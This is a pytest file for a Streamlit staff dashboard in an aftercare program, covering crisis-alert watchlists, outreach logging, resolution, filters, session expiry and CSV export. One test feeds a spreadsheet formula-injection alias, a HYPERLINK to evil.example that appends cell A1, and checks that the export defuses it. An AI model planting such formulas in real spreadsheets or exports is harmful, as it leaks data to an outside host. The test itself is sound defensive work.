"""The watchlist, the page staff live on, and the overview: AppTest against the real API."""

from __future__ import annotations

import datetime as dt
import uuid

import pytest

from db.sweep import sweep
from tests import helpers
from tests.clock import FEW, ONCE
from tests.dashboard.apptest import open_page, sign_in, texts


async def crisis(client, staff, alias: str, **fields) -> helpers.Actor:
    """A graduate whose check-in said "in crisis now": a critical alert, on the watchlist."""
    who = await helpers.graduate(client, staff, alias=alias, **fields)
    response = await client.post(
        "/v1/checkins", json=helpers.checkin_body(need_support="crisis_now"), headers=who.headers
    )
    assert response.status_code == 201, response.text
    return who


@pytest.mark.clock_instants(*ONCE)
async def test_acknowledge_log_outreach_and_resolve_from_the_watchlist(dashboard, client, conn, staff):
    mine = await crisis(client, staff, "Robin", counselor_id=staff.id)
    await crisis(client, staff, "Kim")  # no counselor: not in "my caseload"
    at = sign_in(dashboard(), staff)

    table = at.dataframe[0].value
    assert list(table["alias"]) == ["Robin"]  # my caseload by default
    assert list(table["top_severity"]) == ["● Critical"]
    at.selectbox(key="watch_counselor").set_value("everyone").run()
    assert sorted(at.dataframe[0].value["alias"]) == ["Kim", "Robin"]

    at.selectbox(key="watch_person").set_value(mine.id).run()
    alert_id = await conn.fetchval("select id from alerts where person_id = $1", uuid.UUID(mine.id))
    at.button(key=f"ack_{alert_id}").click().run()
    assert await conn.fetchval("select status from alerts where id = $1", alert_id) == "acknowledged"

    # A form sends its fields together, on submit.
    at.selectbox(key=f"channel_{alert_id}").set_value("call")
    at.checkbox(key=f"reached_{alert_id}").check()
    at.text_area(key=f"note_{alert_id}").input("Talked for 20 minutes; safe, seeing IOP friend tonight.")
    [log_outreach] = [b for b in at.button if b.label == "Log outreach"]
    log_outreach.click().run()
    event = await conn.fetchrow("select channel, reached, note, actor_id from alert_events where kind = 'outreach'")
    assert (event["channel"], event["reached"], str(event["actor_id"])) == ("call", True, staff.id)
    assert event["note"].startswith("Talked for 20 minutes")

    at.text_area(key=f"resolution_{alert_id}").input("Safety plan in place.")
    [resolve] = [b for b in at.button if b.label == "Resolve"]
    resolve.click().run()
    assert not at.exception
    row = await conn.fetchrow("select status, resolution_note, resolved_by from alerts where id = $1", alert_id)
    assert (row["status"], row["resolution_note"], str(row["resolved_by"])) == (
        "resolved",
        "Safety plan in place.",
        staff.id,
    )
    # Robin has nothing open now; Kim still does.
    at.selectbox(key="watch_counselor").set_value("everyone").run()
    assert list(at.dataframe[0].value["alias"]) == ["Kim"]


@pytest.mark.clock_instants(*ONCE)
async def test_severity_filter_and_csv(dashboard, client, conn, staff):
    await crisis(client, staff, "Robin", counselor_id=staff.id)
    talker = await helpers.graduate(client, staff, alias="Lee", counselor_id=staff.id)
    response = await client.post(
        "/v1/checkins", json=helpers.checkin_body(need_support="talk_soon"), headers=talker.headers
    )
    assert response.status_code == 201
    at = sign_in(dashboard(), staff)
    assert sorted(at.dataframe[0].value["alias"]) == ["Lee", "Robin"]
    at.selectbox(key="watch_severity").set_value("critical").run()
    assert list(at.dataframe[0].value["alias"]) == ["Robin"]
    assert any(b.label == "Download CSV" for b in at.get("download_button"))


async def test_nobody_on_the_watchlist(dashboard, staff):
    at = sign_in(dashboard(), staff)
    assert "Nobody is overdue or alerted right now." in texts(at)


@pytest.mark.clock_instants(*FEW)
async def test_the_overview_shows_the_programs_numbers(dashboard, client, conn, staff):
    await crisis(client, staff, "Robin")
    await helpers.graduate(client, staff, alias="Sky")
    at = open_page(sign_in(dashboard(), staff), "views/overview.py")
    metrics = {m.label: m.value for m in at.metric}
    assert metrics["Active graduates"] == "2"
    assert "waiting to activate" in next(m for m in at.metric if m.label == "Active graduates").help
    assert metrics["Critical"] == "1"
    assert "Sessions this week" in metrics and "Attendance, 30 days" in metrics
    assert "Check-ins per day" in texts(at)


@pytest.mark.clock_instants(*FEW)
async def test_overdue_without_an_alert_is_listed_beside_the_alerted(dashboard, client, conn, staff):
    """One miss is not an alert yet, but it is overdue: both kinds show, alerted first."""
    await crisis(client, staff, "Robin")
    today = dt.datetime.now(dt.UTC).date()
    await helpers.graduate_with_history(
        client, conn, staff, today=today, iop_days_ago=10, checkin_days=list(range(-10, -1)), alias="Quinn"
    )
    await sweep(conn, dt.datetime.now(dt.UTC))
    at = sign_in(dashboard(), staff)
    at.selectbox(key="watch_counselor").set_value("everyone").run()
    assert not at.exception and not at.error, (at.exception, at.error)
    table = at.dataframe[0].value
    assert list(table["alias"]) == ["Robin", "Quinn"]
    assert not at.exception


@pytest.mark.clock_instants(*ONCE)
async def test_a_session_that_ends_mid_alert_work_goes_back_to_sign_in(dashboard, client, conn, staff):
    robin = await crisis(client, staff, "Robin", counselor_id=staff.id)
    at = sign_in(dashboard(), staff)
    at.selectbox(key="watch_person").set_value(robin.id).run()
    alert_id = await conn.fetchval("select id from alerts where person_id = $1", uuid.UUID(robin.id))
    await conn.execute("update people set is_active = false where id = $1", uuid.UUID(staff.id))
    at.button(key=f"ack_{alert_id}").click().run()
    assert not at.exception, at.exception
    assert "session has ended" in texts(at)
    assert at.text_input[0].label == "Email"
    assert await conn.fetchval("select status from alerts where id = $1", alert_id) == "open"


@pytest.mark.clock_instants(*ONCE)
async def test_an_empty_caseload_points_to_the_others(dashboard, client, staff):
    robin = await crisis(client, staff, "Robin", counselor_id=staff.id)
    await crisis(client, staff, "Kim")  # nobody's caseload
    at = sign_in(dashboard(), staff)
    assert list(at.dataframe[0].value["alias"]) == ["Robin"]
    alert_id = (await client.get("/v1/staff/alerts", params={"participant_id": robin.id}, headers=staff.headers)).json()
    resolve = {"note": "Safe; seeing their sponsor tonight."}
    await client.post(f"/v1/staff/alerts/{alert_id['items'][0]['id']}/resolve", json=resolve, headers=staff.headers)
    at.selectbox(key="watch_severity").set_value("high").run()  # any rerun reads the list again
    assert not at.dataframe and "Nobody in your caseload needs attention; 1 other does" in texts(at)
    assert "Nobody is overdue or alerted right now." not in texts(at)  # one sentence, not two that disagree


def test_parts_that_rerun_alone_turn_api_troubles_into_messages():
    """The watchlist's table and alert section are fragments: in a browser they rerun on
    their own (every minute, or on a click inside), outside the page's own guard. Each is
    wrapped in `guarded`; this runs one the way a fragment would."""
    from streamlit.testing.v1 import AppTest

    def page():
        import streamlit as st

        from admin_dashboard.client import ApiUnavailable, SessionExpired
        from admin_dashboard.state import guarded

        @st.fragment
        @guarded
        def part(trouble):
            raise trouble

        part(ApiUnavailable("The Aftercare API at http://api cannot be reached (ConnectError)."))
        if "signin_message" not in st.session_state:  # the guard signs out and sets it
            st.session_state.leftover = "a list with names"
            part(SessionExpired("Your session has ended. Please sign in again."))

    at = AppTest.from_function(page, default_timeout=30).run()
    assert not at.exception, at.exception
    assert "cannot be reached" in at.error[0].value and any(b.label == "Retry" for b in at.button)
    assert at.session_state["signin_message"] == "Your session has ended. Please sign in again."
    assert "leftover" not in at.session_state  # nothing of the ended session stays in the browser


@pytest.mark.clock_instants(*ONCE)
async def test_from_the_watchlist_to_the_participant_page(dashboard, client, staff):
    robin = await crisis(client, staff, "Robin", counselor_id=staff.id)
    at = sign_in(dashboard(), staff)
    at.selectbox(key="watch_person").set_value(robin.id).run()
    at.button(key=f"watch_open_{robin.id}").click().run()
    assert not at.exception, at.exception
    assert at.query_params.get("participant") in (robin.id, [robin.id])
    assert "Participants" in [t.value for t in at.title]
    assert "Robin" in texts(at)


async def test_the_csv_cannot_run_a_formula_typed_as_an_alias(dashboard, client, staff, monkeypatch):
    import csv
    import io

    import streamlit as st

    offered: dict[str, str] = {}
    real = st.download_button

    def download_button(label, data, file_name=None, **kwargs):
        offered[file_name] = data
        return real(label, data, file_name=file_name, **kwargs)

    monkeypatch.setattr(st, "download_button", download_button)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    await crisis(client, staff, formula, counselor_id=staff.id)
    await crisis(client, staff, "-Robin", counselor_id=staff.id)
    at = sign_in(dashboard(), staff)
    assert sorted(at.dataframe[0].value["alias"]) == sorted([formula, "-Robin"])  # the table shows it as typed
    rows = list(csv.DictReader(io.StringIO(offered["watchlist.csv"])))
    assert sorted(r["alias"] for r in rows) == sorted(["'" + formula, "'-Robin"])  # text to a spreadsheet
    assert {r["open_alerts"] for r in rows} == {"1"}  # numbers stay numbers


def test_check_ins_per_day_keep_the_days_with_none_on_a_date_axis():
    from admin_dashboard.views.overview import checkins_per_day

    series = checkins_per_day(
        [{"day": "2026-11-30", "checkins": 4}, {"day": "2026-12-02", "checkins": 1}], dt.date(2026, 12, 3), days=5
    )
    assert [d.date().isoformat() for d in series.index] == [
        "2026-11-29",
        "2026-11-30",
        "2026-12-01",
        "2026-12-02",
        "2026-12-03",
    ]
    assert list(series) == [0, 4, 0, 1, 0]
    assert str(series.index.dtype).startswith("datetime64")
